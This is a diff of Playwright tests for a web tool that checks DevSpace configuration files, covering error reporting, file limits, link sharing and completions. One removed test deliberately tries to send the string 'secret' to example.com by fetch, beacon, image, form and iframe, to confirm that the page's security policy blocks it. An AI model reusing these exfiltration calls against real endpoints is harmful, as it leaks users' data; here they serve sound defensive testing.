@@ -52,12 +52,13 @@ function editorChunk(): string {
   return file;
 }
 
-test.beforeEach(async ({page, visit}) => {
+async function openChecker(page: Page, visit: (path: string) => Promise<void>): Promise<void> {
   await visit('tools/check');
   await expect(page.locator('.cm-content')).toBeVisible();
-});
+}
 
-test('reports problems as you type, with their locations and fields', async ({page}) => {
+test('reports problems as you type, with their locations and fields', async ({page, visit}) => {
+  await openChecker(page, visit);
   const sent: string[] = [];
   page.on('request', (request) => sent.push(`${request.method()} ${request.postData() ?? ''}`));
   await paste(page, BROKEN);
@@ -81,64 +82,64 @@ test('reports problems as you type, with their locations and fields', async ({pa
 
   await paste(page, BROKEN.replace('tag: ${TAG}', 'tags: [v1]').replace('apj', 'api'));
   await expect(page.getByText('No problems found in v2beta1')).toBeVisible();
+
+  const entries = Array.from({length: 150}, (_, index) => `  a${index}: {imge: a, tags: 1}\n`);
+  await paste(page, `version: v2beta1\nname: my-app\nimages:\n${entries.join('')}`);
+  await expect(page.getByText('Another 100 problems are not listed.')).toBeVisible();
   // Only schemas and code were requested.
   expect(sent.filter((request) => request !== 'GET ')).toEqual([]);
 });
 
-test('opens files, and rejects those that it cannot check', async ({page}) => {
+test('opens files, and rejects those that it cannot check', async ({page, visit}) => {
+  await openChecker(page, visit);
+  await editor(page).focus();
+  await page.keyboard.press('Tab');
+  await expect(editor(page)).not.toBeFocused();
+
   const input = page.getByLabel('Open a file');
-  const open = (buffer: Buffer): Promise<void> =>
-    input.setInputFiles({name: 'devspace.yaml', mimeType: 'text/yaml', buffer});
-  await open(Buffer.from('version: v1beta11\nvars: []\n'));
+  const open = (content: string | Buffer): Promise<void> =>
+    input.setInputFiles({
+      name: 'devspace.yaml',
+      mimeType: 'text/yaml',
+      buffer: Buffer.from(content),
+    });
+  await open('version: v1beta11\nvars: []\n');
   await expectText(page, 'version: v1beta11\nvars: []');
   await expect(page.getByText('No problems found in v1beta11 (DevSpace 5.x)')).toBeVisible();
   await expect(page.getByRole('rowheader', {name: 'vars'})).toBeVisible();
-  await open(Buffer.from('version: v1beta9\ndev:\n  sync: []\n  interactive: {terminal: {}}\n'));
+  await page.getByLabel('Config version').selectOption('6.x');
+  await expect(problems(page).filter({hasText: 'expected v2beta1, found v1beta11'})).toBeVisible();
+  await page.getByLabel('Config version').selectOption('');
+
+  await open('version: v1beta9\ndev:\n  sync: []\n  interactive: {terminal: {}}\n');
   const row = page.getByRole('row').filter({has: page.getByRole('rowheader', {name: 'dev'})});
   await expect(row).toContainText('dev.sync: now dev.*.sync');
   await expect(row).toContainText('dev.interactive.terminal: now dev.*.terminal');
-  await open(Buffer.from('version: v1beta11\nvars: []\n'));
-  await page.getByLabel('Config version').selectOption('6.x');
-  await expect(problems(page).filter({hasText: 'expected v2beta1, found v1beta11'})).toBeVisible();
 
-  await open(Buffer.alloc(1_000_001, 'a'));
-  await expect(page.getByText('The file is larger than 1 MB.')).toBeVisible();
-  await open(Buffer.from('version: v2beta1\nname: my-app\n'));
-  await expectText(page, 'version: v2beta1\nname: my-app');
-  await paste(page, 'a: b\n'.repeat(400_000));
-  await expect(page.getByText('The file is larger than 1 MB.')).toBeVisible();
-  await expectText(page, 'version: v2beta1\nname: my-app');
+  await editor(page).evaluate((element) => {
+    const dataTransfer = new DataTransfer();
+    dataTransfer.items.add(new File(['version: v2beta1\nname: dropped\n'], 'devspace.yaml'));
+    const options = {dataTransfer, bubbles: true, cancelable: true, composed: true};
+    element.dispatchEvent(new DragEvent('drop', options));
+  });
+  await expectText(page, 'version: v2beta1\nname: dropped');
+
+  for (const reject of [
+    () => open('a'.repeat(1_000_001)),
+    () => paste(page, 'a: b\n'.repeat(400_000)),
+  ]) {
+    await reject();
+    await expect(page.getByText('The file is larger than 1 MB.')).toBeVisible();
+    await open('version: v2beta1\nname: my-app\n');
+    await expectText(page, 'version: v2beta1\nname: my-app');
+    await expect(page.getByText('No problems found')).toBeVisible();
+  }
   await open(Buffer.from([0, 1, 2]));
   await expect(page.getByText("The file isn't a text file in UTF-8.")).toBeVisible();
 });
 
-test('stays responsive while it checks a file of 10,000 lines', async ({page}) => {
-  const entries = Array.from(
-    {length: 2500},
-    (_, index) => `  app-${index}:\n    imge: a\n    tags: 1\n    docker: {}\n`,
-  );
-  const text = `version: v2beta1\nname: my-app\nimages:\n${entries.join('')}`;
-  await paste(page, text);
-  const longest = await page.evaluate(
-    () =>
-      new Promise<number>((resolve) => {
-        let last = performance.now();
-        let gap = 0;
-        const end = last + 1500;
-        const tick = (now: number): void => {
-          gap = Math.max(gap, now - last);
-          last = now;
-          if (now < end) requestAnimationFrame(tick);
-          else resolve(gap);
-        };
-        requestAnimationFrame(tick);
-      }),
-  );
-  await expect(page.getByText(/5000 errors/)).toBeVisible();
-  expect(longest).toBeLessThan(500);
-});
-
 test('shares a file in a link, which no request contains', async ({page, visit}) => {
+  await openChecker(page, visit);
   const text = 'version: v2beta1\nname: shared\n';
   await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
   await paste(page, text);
@@ -160,30 +161,29 @@ test('shares a file in a link, which no request contains', async ({page, visit})
   await expect(page.getByText('The link is incomplete: copy it again.')).toBeVisible();
 });
 
-test('stops a check that takes too long, and says so', async ({page, visit}) => {
+test('stops a check that takes too long', async ({page, visit}) => {
   await page.clock.install();
-  // The schemas never arrive.
-  await page.route('**/schema/v2beta1.json', () => new Promise(() => {}));
-  await visit('tools/check');
+  // The schema never arrives.
+  const schema = '**/schema/v2beta1.json';
+  await page.route(schema, () => {});
+  await openChecker(page, visit);
+  const request = page.waitForRequest(schema);
   await paste(page, BROKEN);
-  await page.clock.runFor(1_000);
   await expect(page.getByText('Checking…')).toBeVisible();
+  await request;
   await page.clock.fastForward(31_000);
   await expect(page.getByText('The check took too long, and was stopped.')).toBeVisible();
 });
 
-test('completes and describes fields', async ({page}) => {
+test('completes and describes fields', async ({page, visit}) => {
+  await openChecker(page, visit);
   await paste(page, 'version: v2beta1\nname: my-app\nimages:\n  api:\n    ');
   await page.keyboard.type('reb');
   const list = page.getByRole('listbox', {name: 'Completions'});
-  await expect(list.getByRole('option', {name: /^rebuildStrategy/})).toBeVisible();
   await expect(page.getByText('When DevSpace rebuilds the image')).toBeVisible();
-  await page.waitForTimeout(200);
-  await page.keyboard.press('Enter');
+  await list.getByRole('option', {name: /^rebuildStrategy/}).click();
   await page.keyboard.type('al');
-  await expect(list.getByRole('option', {name: 'always'})).toBeVisible();
-  await page.waitForTimeout(200);
-  await page.keyboard.press('Enter');
+  await list.getByRole('option', {name: 'always'}).click();
   await expectText(
     page,
     'version: v2beta1\nname: my-app\nimages:\n  api:\n    rebuildStrategy: always',
@@ -195,84 +195,18 @@ test('completes and describes fields', async ({page}) => {
   );
 });
 
-test('leaves the editor with Tab', async ({page}) => {
-  await editor(page).focus();
-  await page.keyboard.press('Tab');
-  await expect(editor(page)).not.toBeFocused();
-});
-
-test('opens a dropped file', async ({page}) => {
-  await editor(page).evaluate((element) => {
-    const dataTransfer = new DataTransfer();
-    dataTransfer.items.add(new File(['version: v2beta1\nname: dropped\n'], 'devspace.yaml'));
-    const options = {dataTransfer, bubbles: true, cancelable: true, composed: true};
-    element.dispatchEvent(new DragEvent('drop', options));
-  });
-  await expectText(page, 'version: v2beta1\nname: dropped');
-});
-
 test.describe('if the editor fails to load', () => {
   test.use({
     allowedProblems: [
-      {pattern: /ERR_FAILED|ChunkLoadError|Loading chunk/, reason: 'the test takes the file away'},
+      {pattern: /ERR_FAILED|ChunkLoadError|Loading chunk/, reason: 'the test blocks the file'},
     ],
   });
 
-  test('a text field takes its place', async ({page, visit}) => {
+  test('a text field replaces it', async ({page, visit}) => {
     await page.route(`**/${editorChunk()}`, (route) => route.abort());
     await visit('tools/check');
     await expect(page.locator('textarea')).toBeVisible();
     await editor(page).fill(BROKEN);
     await expect(problems(page)).toHaveCount(3);
   });
-});
-
-test.describe('the policy of the page', () => {
-  test.use({
-    allowedProblems: [
-      {pattern: /Content Security Policy|violates|Refused/, reason: 'the test provokes it'},
-    ],
-  });
-
-  test('lets no text out of the browser', async ({page}) => {
-    const answered: string[] = [];
-    page.on('response', (response) => answered.push(response.url()));
-    const blocked = await page.evaluate(async () => {
-      const target = 'https://example.com/collect';
-      const directives = new Set<string>();
-      document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
-        directives.add(effectiveDirective),
-      );
-      await fetch(target, {method: 'POST', body: 'secret'}).catch(() => undefined);
-      navigator.sendBeacon(target, 'secret');
-      new Image().src = target;
-      const form = document.createElement('form');
-      form.action = target;
-      form.method = 'post';
-      document.body.append(form);
-      form.submit();
-      const frame = document.createElement('iframe');
-      frame.src = target;
-      document.body.append(frame);
-      await new Promise((resolve) => {
-        setTimeout(resolve, 500);
-      });
-      return [...directives].sort();
-    });
-    expect(blocked).toEqual(['connect-src', 'form-action', 'frame-src', 'img-src']);
-    expect(answered.filter((url) => url.includes('example.com'))).toEqual([]);
-  });
-});
-
-test('only the check page loads the editor', async ({page, visit}) => {
-  const chunk = editorChunk();
-  const loaded: string[] = [];
-  page.on('request', (request) => loaded.push(request.url()));
-  for (const other of ['', 'configuration/reference', 'troubleshooting/errors']) {
-    await visit(other);
-    await page.waitForTimeout(500);
-  }
-  expect(loaded.filter((url) => url.endsWith(chunk))).toEqual([]);
-  await visit('tools/check');
-  await expect.poll(() => loaded.some((url) => url.endsWith(chunk))).toBe(true);
 });
